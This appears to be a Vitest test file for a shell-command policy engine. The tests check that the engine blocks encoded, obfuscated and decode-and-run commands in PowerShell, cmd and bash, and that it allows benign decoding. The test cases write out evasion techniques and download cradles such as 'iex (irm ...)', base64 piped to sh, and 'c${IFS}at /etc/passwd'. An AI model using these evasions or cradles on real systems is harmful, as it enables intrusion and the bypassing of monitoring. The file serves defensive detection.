import { describe, expect, it } from 'vitest';
import { evaluatePolicy } from '../engine';
import type { Shell } from '../types';

function evaluate(text: string, shell: Shell, history: string[] = []) {
  return evaluatePolicy({
    text,
    shell,
    platform: shell === 'powershell' || shell === 'cmd' ? 'windows' : 'linux',
    context: { tenantState: 'active', trust: { level: 'standard' }, now: 0, blockedDestinations: [], permittedScriptHashes: [], history },
  });
}
const codes = (text: string, shell: Shell, history: string[] = []) => evaluate(text, shell, history).reasons.map((r) => r.code);
/** UTF-16LE base64, as PowerShell's -EncodedCommand expects. */
function encodeCommand(command: string): string {
  let bin = '';
  for (const ch of command) bin += ch + '\u0000';
  return btoa(bin);
}

describe('encoded commands', () => {
  it('blocks -EncodedCommand even when the payload is harmless, under every prefix', () => {
    const payload = encodeCommand('dir');
    for (const flag of ['-EncodedCommand', '-enc', '-e', '-ec', '-EnCoDeD', '/enc']) {
      const r = evaluate(`powershell.exe -nop ${flag} ${payload}`, 'cmd');
      expect(r.decision).toBe('block');
      expect(r.reasons.map((x) => x.code)).toContain('encoded_command');
    }
  });

  it('decodes -EncodedCommand recursively and finds what is inside', () => {
    const inner = `powershell -enc ${encodeCommand("iex (irm 'http://x.example.net/a')")}`;
    const r = evaluate(`powershell -enc ${encodeCommand(inner)}`, 'cmd');
    expect(r.reasons.map((x) => x.code)).toEqual(expect.arrayContaining(['encoded_command', 'download_execute']));
    // Spans of decoded content point at the encoded source in the original text.
    for (const reason of r.reasons)
      for (const s of reason.spans)
        expect(s.end).toBeLessThanOrEqual(r.sha256.length > 0 ? `powershell -enc ${encodeCommand(inner)}`.length : 0);
  });

  it('blocks an encoded command passed through a variable', () => {
    expect(
      codes(
        '$b = [Text.Encoding]::Unicode.GetBytes("dir")\n$e = [Convert]::ToBase64String($b)\npowershell.exe -EncodedCommand $e',
        'powershell',
      ),
    ).toContain('encoded_command');
  });

  it.each([
    ['echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh', 'bash'],
    ['echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 --decode | bash', 'bash'],
    ['eval "$(echo aWQ= | base64 -d)"', 'bash'],
    ['bash -c "$(echo aWQ= | base64 -d)"', 'bash'],
    ['X=$(echo aWQ= | base64 -d); eval "$X"', 'bash'],
    ['python3 -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))"', 'bash'],
    ['echo aWQ= | base64 -d > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh', 'bash'],
    ["IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('ZABpAHIA')))", 'powershell'],
    ['$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)); iex $d', 'powershell'],
    ["printf '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh", 'bash'],
    ["echo -e '\\167\\150\\157\\141\\155\\151' | bash", 'bash'],
  ] as const)('blocks decode-and-run: %s', (text, shell) => {
    expect(codes(text, shell)).toContain('encoded_command');
    expect(evaluate(text, shell).decision).toBe('block');
  });

  it.each([
    ['base64 -d /srv/file', 'bash'],
    ['echo aGVsbG8= | base64 -d', 'bash'],
    ['uptime | base64', 'bash'],
    ['echo aGVsbG8= | base64 -d > /tmp/out.txt', 'bash'],
    ["$bytes = [Convert]::FromBase64String('aGVsbG8='); [Text.Encoding]::UTF8.GetString($bytes) | Out-File out.txt", 'powershell'],
    [
      'Invoke-WebRequest -Headers @{ Authorization = "Basic " + [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes("u:p")) } https://x.example.net',
      'powershell',
    ],
    ['certutil -hashfile C:\\file.iso SHA256', 'cmd'],
    ["printf 'hello\\n' | tee out.txt", 'bash'],
  ] as const)('allows decoding without running: %s', (text, shell) => {
    expect(codes(text, shell)).not.toContain('encoded_command');
    expect(codes(text, shell)).not.toContain('obfuscation');
  });

  // The decoded text is a cradle, but storing it runs nothing: only running the variable does (a later line).
  const decodedCradle = "'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALwBhACkA'";
  it('allows a cradle decoded into a variable, and blocks where the variable is run', () => {
    const decode = `$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle}))`;
    expect(evaluate(decode, 'powershell').decision).toBe('allow');
    expect(
      evaluate('$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))', 'powershell', [`$b = ${decodedCradle}`])
        .decision,
    ).toBe('allow');
    expect(evaluate('iex $c', 'powershell', [decode]).decision).toBe('block');
    expect(evaluate(`${decode}; iex $c`, 'powershell').decision).toBe('block');
    expect(evaluate(`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle})))`, 'powershell').decision).toBe(
      'block',
    );
    expect(evaluate(`[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle})) | iex`, 'powershell').decision).toBe(
      'block',
    );
  });
});

describe('obfuscation', () => {
  it.each([
    ["&('In'+'voke-Expression') 'Get-Process'", 'powershell'],
    ['& ("{1}{0}" -f \'ex\',\'i\') "dir"', 'powershell'],
    ['$ps = [char[]](112,111,119,101,114,115,104,101,108,108)\n& (-join $ps) -Command "Get-Date"', 'powershell'],
    ['& (gcm *ke-e*) "dir"', 'powershell'],
    ['Inv`oke-Ex`pres`sion "dir"', 'powershell'],
    ["ie''x 'dir'", 'powershell'],
    ['%LOCALAPPDATA:~-3,1%md /c echo hi', 'cmd'],
    ['c^m^d /c echo hi', 'cmd'],
    ['set x=owershell\np%x:~0,9% -c dir', 'cmd'],
    ['c${IFS}at /etc/passwd', 'bash'],
    ['/???/b??h -c id', 'bash'],
    ["w'h'o'a'm'i", 'bash'],
    ['{curl,-s,http://x.example.net/a}', 'bash'],
  ] as const)('blocks or flags %s', (text, shell) => {
    const r = evaluate(text, shell);
    expect(r.decision).not.toBe('allow');
  });

  it('reports invisible and bidi characters', () => {
    expect(codes('i\u200bex (irm http://x.example.net/a)', 'powershell')).toContain('unicode_trick');
    expect(codes('echo \u202eabc', 'bash')).toContain('unicode_trick');
    expect(codes('\ufeffGet-Service', 'powershell')).not.toContain('unicode_trick');
  });

  it.each([
    ['Get-Service', 'powershell'],
    ['/???/c?t /etc/hostname', 'bash'],
    ['Write-Host "a`tb"', 'powershell'],
    ["$path = 'C:\\' + 'Temp'; Get-ChildItem $path", 'powershell'],
    ['\\ls -la', 'bash'],
    ['echo "100%"', 'bash'],
    ['echo a ^& b', 'cmd'],
    ['dir %USERPROFILE%\\Desktop', 'cmd'],
    ['while IFS= read -r line; do echo "$line"; done < f', 'bash'],
    ['`Get-PSBreakpoint` | Disable-PSBreakpoint', 'powershell'],
  ] as const)('allows ordinary escapes: %s', (text, shell) => {
    const c = codes(text, shell);
    expect(c).not.toContain('obfuscation');
    expect(c).not.toContain('encoded_command');
  });
});

describe('a script written from decoded text and then run', () => {
  const ruleIds = (text: string, shell: Shell) => evaluate(text, shell).reasons.map((r) => r.ruleId);
  it.each<[string, Shell]>([
    // The decoded text passes through expressions before it is written (Atomic Red Team T1001.002).
    [
      '$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\n$m = [regex]::Matches($d, ".+") | % { $_.Value }\n$m -join "" | Set-Content -Path "$HOME\\t.ps1"\n. "$HOME\\t.ps1"',
      'powershell',
    ],
    [
      '$d = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("ZABpAHIA")); Set-Content C:\\Temp\\x.ps1 $d; powershell -File C:\\Temp\\x.ps1',
      'powershell',
    ],
    ['echo ZWNobyBoaQo= | base64 -d > /tmp/a.sh; sh /tmp/a.sh', 'bash'],
  ])('blocks %s', (text, shell) => expect(ruleIds(text, shell)).toContain('enc.decoded-file-run'));

  it.each<[string, Shell]>([
    // Decoded to a file that is only read, or another file run.
    [
      '$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); $d | Set-Content C:\\Temp\\notes.txt; Get-Content C:\\Temp\\notes.txt',
      'powershell',
    ],
    [
      '$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); $d | Set-Content C:\\Temp\\cert.pem; & C:\\Tools\\import.ps1',
      'powershell',
    ],
  ])('allows %s', (text, shell) => expect(ruleIds(text, shell)).not.toContain('enc.decoded-file-run'));
});

describe('text written as character codes for printf or echo, then run', () => {
  it.each([
    'eval "$(printf \'\\143\\165\\162\\154\\040\\150\\164\\164\\160\\072\\057\\057\\141\\057\\171\\174\\163\\150\')"',
    'c=$(printf \'\\x77\\x68\\x6f\\x61\\x6d\\x69\\x3b\\x20\\x69\\x64\'); eval "$c"',
    'bash -c "$(echo -e \'\\x69\\x64\')"',
    "printf 'c\\x75rl -s http://x.example/a' | sh",
  ])('blocks %s', (text) => expect(codes(text, 'bash')).toContain('encoded_command'));

  it.each([
    "printf '\\033[1;32mOK\\033[0m\\n' > /tmp/s.sh; bash /tmp/s.sh",
    "echo -e '\\033[31mred\\033[0m'",
    "printf '\\x77\\x68\\x6f\\x61\\x6d\\x69\\n' > /tmp/notes.txt",
  ])('allows %s (colour codes, or codes not run)', (text) => expect(codes(text, 'bash')).not.toContain('encoded_command'));
});

describe('PowerShell: decoded text run without a written-out runner', () => {
  const ruleIds = (text: string) => evaluate(text, 'powershell').reasons.map((r) => r.ruleId);
  it('blocks character codes cast in a loop and joined, then run', () =>
    expect(
      ruleIds("$codes = 87,114,105,116,101,45,72,111,115,116\n$c = ($codes | ForEach-Object { [char]$_ }) -join ''\nInvoke-Expression $c"),
    ).toContain('enc.decode-exec'));
  it('blocks decoded text handed to a program whose name is computed', () =>
    expect(
      ruleIds(
        "$dec = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($blob))\n$n = 'IXZEX'.Replace('Z','')\n& ($n.Insert(1,'E').Substring(0,3)) $dec",
      ),
    ).toContain('enc.decode-exec'));
  it.each([
    "$line = ($names | ForEach-Object { [char]34 + $_ + [char]34 }) -join ','\nWrite-Output $line",
    '$q = [char]34\n& \'C:\\Tools\\report.exe\' "$q$path$q"',
  ])('allows %s (codes quoting text, nothing decoded run)', (text) => expect(codes(text, 'powershell')).not.toContain('encoded_command'));
});
